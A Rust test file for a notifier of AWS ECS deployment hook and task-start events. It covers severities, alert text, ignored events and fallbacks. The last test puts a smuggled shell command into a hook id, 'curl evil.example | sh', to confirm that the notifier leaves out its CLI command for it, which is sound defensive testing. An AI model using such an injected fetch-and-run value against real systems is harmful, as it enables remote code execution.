//! ECS-native deployments: hook state changes and tasks that fail to start.

use super::*;

/// `ecs-hook-awaiting-action.json` (AWS's example: my-cluster/my-service, us-west-2), renamed
/// to another documented event of the same shape.
fn hook_event(name: &str, hook_type: &str) -> Value {
    let mut event = sample_event("ecs-hook-awaiting-action.json");
    event["detail"]["eventName"] = json!(name);
    event["detail"]["hookType"] = json!(hook_type);
    event
}

const HOOK_ID: &str = "ecs-pause-e7tK9G_WRJqNF_EOMjztDXfKenlJuEUVjsNStf4WLKw";
const DEPLOYMENT_ARN: &str = "arn:aws:ecs:us-west-2:123456789012:service-deployment/my-cluster/my-service/0EYSiB0qap8xf0N76FsbE";

/// `fake_aws()`, with my-service of the hook sample deploying web:8 over web:7 too.
fn native_aws() -> FakeAws {
    let aws = fake_aws();
    let mut service = FakeService::new("my-cluster", "my-service", &deployments()[0].task_definition);
    service.deployments = deployments();
    aws.ecs.add_service(service);
    aws
}

/// What an event is reported as (its `event` attribute and severity); `None`: ignored.
type Reported = Option<(&'static str, Severity)>;

#[test]
fn reports_by_event_name() {
    use Severity::*;
    let reported: [(&str, &str, Reported); 9] = [
        ("HOOK_AWAITING_ACTION", "PAUSE", Some(("deployment.hook_awaiting_action", Warning))),
        ("HOOK_FAILED", "PAUSE", Some(("deployment.hook_failed", Critical))),
        ("HOOK_FAILED", "AWS_LAMBDA", Some(("deployment.hook_failed", Critical))),
        ("HOOK_TIMED_OUT", "PAUSE", Some(("deployment.hook_timed_out", Critical))),
        ("HOOK_TIMED_OUT", "AWS_LAMBDA", Some(("deployment.hook_timed_out", Critical))),
        ("HOOK_SUCCEEDED", "PAUSE", Some(("deployment.hook_succeeded", Info))),
        // The function reports its own verdict; one message per hooked stage would double it.
        ("HOOK_SUCCEEDED", "AWS_LAMBDA", None),
        // Its outcome follows as its own event.
        ("HOOK_IN_PROGRESS", "AWS_LAMBDA", None),
        ("HOOK_SKIPPED", "PAUSE", None),
    ];
    for (name, hook_type, expected) in reported {
        let report = hook_report(name, hook_type);
        assert_eq!(report.as_ref().ok().map(|f| (f.event, f.severity)), expected, "{name} {hook_type}: {report:?}");
    }
    let task_start = service_action_report("SERVICE_TASK_START_IMPAIRED").unwrap();
    assert_eq!((task_start.event, task_start.severity), ("deployment.tasks_failing_to_start", Critical));
    for other in ["SERVICE_STEADY_STATE", "SERVICE_DEPLOYMENT_COMPLETED", "SERVICE_TASK_PLACEMENT_FAILURE"] {
        let why = service_action_report(other).unwrap_err();
        assert!(why.contains(&format!("\"{other}\"")) && why.contains("only SERVICE_TASK_START_IMPAIRED"), "{why}");
    }
}

#[tokio::test]
async fn a_pause_awaiting_action_names_the_hook_the_stage_the_expiry_and_both_answers() {
    let aws = native_aws();
    deploy_events(&aws, &["my-cluster"]).handle(sample_event("ecs-hook-awaiting-action.json")).await.unwrap();
    let published = aws.sns.published();
    assert_eq!(published.len(), 1);
    let n = &published[0];
    assert_eq!((n.event, n.severity), ("deployment.hook_awaiting_action", Severity::Warning));
    assert_eq!(n.sns_subject(), "Deployment paused, awaiting action: my-cluster/my-service (web:8) at POST_TEST_TRAFFIC_SHIFT");
    assert_eq!((n.cluster.as_deref(), n.service.as_deref()), (Some("my-cluster"), Some("my-service")));
    for line in [
        "Stage:      POST_TEST_TRAFFIC_SHIFT\n".to_owned(),
        format!("Hook:       {HOOK_ID} (PAUSE)\n"),
        "Expires:    2026-03-05T16:04:41Z, then ECS applies the hook's timeout action\n".to_owned(),
        format!("Deployment: {DEPLOYMENT_ARN}\nRevision:   web:8\nPrevious:   web:7\n"),
        format!("  {{\"action\":\"continue\",\"cluster\":\"my-cluster\",\"service\":\"my-service\",\"hookId\":\"{HOOK_ID}\"}}\n"),
        "  {\"action\":\"rollback\",\"cluster\":\"my-cluster\",\"service\":\"my-service\"}\n".to_owned(),
        format!(
            "  aws ecs continue-service-deployment --region us-west-2 --service-deployment-arn {DEPLOYMENT_ARN} --hook-id {HOOK_ID} --action CONTINUE\n"
        ),
        format!(
            "  aws ecs continue-service-deployment --region us-west-2 --service-deployment-arn {DEPLOYMENT_ARN} --hook-id {HOOK_ID} --action ROLLBACK\n"
        ),
    ] {
        assert!(n.text.contains(&line), "{line}\nnot in\n{}", n.text);
    }
    assert_eq!(n.details["continue"], json!({"action": "continue", "cluster": "my-cluster", "service": "my-service", "hookId": HOOK_ID}));
    assert_eq!(n.details["rollback"], json!({"action": "rollback", "cluster": "my-cluster", "service": "my-service"}));
    assert_eq!(
        (n.details["expires_at"].as_str(), n.details["lifecycle_stage"].as_str()),
        (Some("2026-03-05T16:04:41Z"), Some("POST_TEST_TRAFFIC_SHIFT"))
    );
    assert_eq!(aws.faults.calls(), ["ecs:DescribeServices", "sns:Publish"]);
}

#[tokio::test]
async fn failed_timed_out_and_continued_hooks_say_what_ecs_does_next() {
    let cases = [
        ("HOOK_FAILED", "PAUSE", "Deployment ROLLED BACK at its pause", "ContinueServiceDeployment with ROLLBACK"),
        ("HOOK_FAILED", "AWS_LAMBDA", "Deployment hook FAILED, rolling back", "ECS rolls the deployment back"),
        ("HOOK_TIMED_OUT", "PAUSE", "Deployment hook TIMED OUT", "ROLLBACK unless it was set to CONTINUE"),
        ("HOOK_SUCCEEDED", "PAUSE", "Deployment continued", "ContinueServiceDeployment with CONTINUE"),
    ];
    for (name, hook_type, verb, says) in cases {
        let aws = native_aws();
        deploy_events(&aws, &[]).handle(hook_event(name, hook_type)).await.unwrap();
        let n = &aws.sns.published()[0];
        assert_eq!(n.sns_subject(), format!("{verb}: my-cluster/my-service (web:8) at POST_TEST_TRAFFIC_SHIFT"), "{name}");
        assert!(n.text.contains(says), "{name} {hook_type}: {}", n.text);
        // Only a pause awaiting action is told how to answer it.
        assert!(!n.text.contains("continue-service-deployment") && n.details["continue"].is_null(), "{name}: {}", n.text);
        assert!(!n.text.contains("Expires:"), "{name}: {}", n.text);
    }
}

#[tokio::test]
async fn events_not_reported_are_ignored_with_the_reason_and_without_a_call() {
    let cases = [
        (hook_event("HOOK_IN_PROGRESS", "AWS_LAMBDA"), "a lifecycle hook started"),
        (hook_event("HOOK_SUCCEEDED", "AWS_LAMBDA"), "the traffic gate publishes gate.passed"),
        (hook_event("HOOK_AWAITING_ACTION", "PAUSE"), "cluster my-cluster is not in CLUSTERS"),
        (
            {
                let mut steady = sample_event("ecs-service-task-start-impaired.json");
                steady["detail"]["eventName"] = json!("SERVICE_STEADY_STATE");
                steady
            },
            "service action \"SERVICE_STEADY_STATE\" is not one deploy-events reports",
        ),
        (sample_event("ecs-service-task-start-impaired.json"), "cluster prod is not in CLUSTERS"),
    ];
    for (index, (event, why)) in cases.into_iter().enumerate() {
        let aws = native_aws();
        let clusters: &[&str] = if why.contains("CLUSTERS") { &["staging"] } else { &[] };
        let outcome = deploy_events(&aws, clusters).handle(event).await.unwrap();
        assert!(outcome.ignored.as_deref().is_some_and(|i| i.contains(why)), "case {index}: {outcome:?}");
        assert_eq!((aws.faults.calls(), aws.sns.published()), (vec![], vec![]), "case {index}");
    }
}

#[tokio::test]
async fn tasks_failing_to_start_is_critical_and_names_the_revision() {
    let aws = native_aws();
    deploy_events(&aws, &["prod"]).handle(sample_event("ecs-service-task-start-impaired.json")).await.unwrap();
    let published = aws.sns.published();
    assert_eq!(published.len(), 1);
    let n = &published[0];
    assert_eq!((n.event, n.severity), ("deployment.tasks_failing_to_start", Severity::Critical));
    assert_eq!(n.sns_subject(), "Tasks FAILING TO START: prod/web (web:8)");
    assert!(n.text.contains("Event:      SERVICE_TASK_START_IMPAIRED\nRevision:   web:8\nPrevious:   web:7\n"), "{}", n.text);
    assert!(n.text.contains("cannot consistently start the service's tasks"), "{}", n.text);
    assert_eq!(n.dedup_key.as_deref(), Some("57c9506e-9d21-294c-d2fe-e8738da7e67d"));
}

/// A hook's alert goes out with what the event carries when the service cannot be read.
#[tokio::test]
async fn a_pause_is_reported_when_the_service_cannot_be_read() {
    let aws = native_aws();
    aws.faults.fail_always("ecs:DescribeServices", Fault::Error);
    deploy_events(&aws, &[]).handle(sample_event("ecs-hook-awaiting-action.json")).await.expect("the alert is published");
    let n = &aws.sns.published()[0];
    assert_eq!(n.sns_subject(), "Deployment paused, awaiting action: my-cluster/my-service at POST_TEST_TRAFFIC_SHIFT");
    assert!(n.text.contains("Revision:   unknown\n") && n.text.contains("Not read:   revisions: ecs:DescribeServices"), "{}", n.text);
    assert!(n.text.contains("--action CONTINUE"), "{}", n.text);
}

/// A command meant for a shell holds only ids it takes literally; the payloads are JSON, escaped.
#[test]
fn ids_a_shell_would_interpret_get_no_command() {
    let mut event = sample_event("ecs-hook-awaiting-action.json");
    event["detail"]["hookId"] = json!("ecs-pause-x; curl evil.example | sh");
    let crate::event::deployment::DeploymentEvent::Hook(change) = crate::event::deployment::decode(event).unwrap() else {
        panic!("not a hook state change")
    };
    let filed = hook_report(&change.name, &change.hook_type).unwrap();
    let n = hook_notification(&change, filed, &[], &[]);
    assert!(!n.text.contains("aws ecs") && n.text.contains("(no command shown: "), "{}", n.text);
    assert!(n.text.contains("\"hookId\":\"ecs-pause-x; curl evil.example | sh\""), "{}", n.text);
}
